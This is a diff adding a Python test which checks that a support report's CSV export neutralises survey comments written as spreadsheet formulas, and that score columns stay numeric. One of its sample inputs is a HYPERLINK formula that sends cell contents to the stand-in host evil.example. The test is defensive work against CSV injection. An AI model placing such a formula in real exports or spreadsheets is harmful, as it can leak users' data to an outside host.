@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import secrets
 from datetime import datetime, timedelta
@@ -256,6 +258,34 @@ async def test_every_figure_matches_a_hand_count(database: Database) -> None:
     assert report.conversations("csat_score", "5") == [quick]
     assert unrated not in report.conversations("csat_score", "5")
     assert "rated,average" in report.csv("satisfaction").splitlines()[0]
+
+
+async def test_a_comment_written_as_a_formula_is_text_in_the_csv(database: Database) -> None:
+    """A survey comment is the customer's text: a spreadsheet must never run it."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    history = History(database)
+    for n, comment in enumerate([formula, "\t=1+1", "@SUM(A1)", "-2+3", "fine, thanks"]):
+        await history.conversation(
+            f"c{n}",
+            at(0, 10 + n),
+            handoff="asked_for_human",
+            reply_after=timedelta(minutes=5),
+            resolve_after=timedelta(minutes=9),
+            rating=1 + n % 5,
+            comment=comment,
+        )
+    report = await build_report(
+        database,
+        POLICIES,
+        ReportFilter(start=MONDAY, end=MONDAY + timedelta(days=7)),
+        zone=SHANGHAI,
+        now=MONDAY + timedelta(days=10),
+        agent_names={},
+    )
+    cells = [row[2] for row in csv.reader(io.StringIO(report.csv("comments")))][1:]
+    assert sorted(cells) == sorted(["'" + formula, "'=1+1", "'@SUM(A1)", "'-2+3", "fine, thanks"])
+    scores = [row[1] for row in csv.reader(io.StringIO(report.csv("comments")))][1:]
+    assert all(s.isdigit() for s in scores), "numbers stay numbers"
 
 
 async def test_filters_narrow_every_figure(database: Database) -> None:
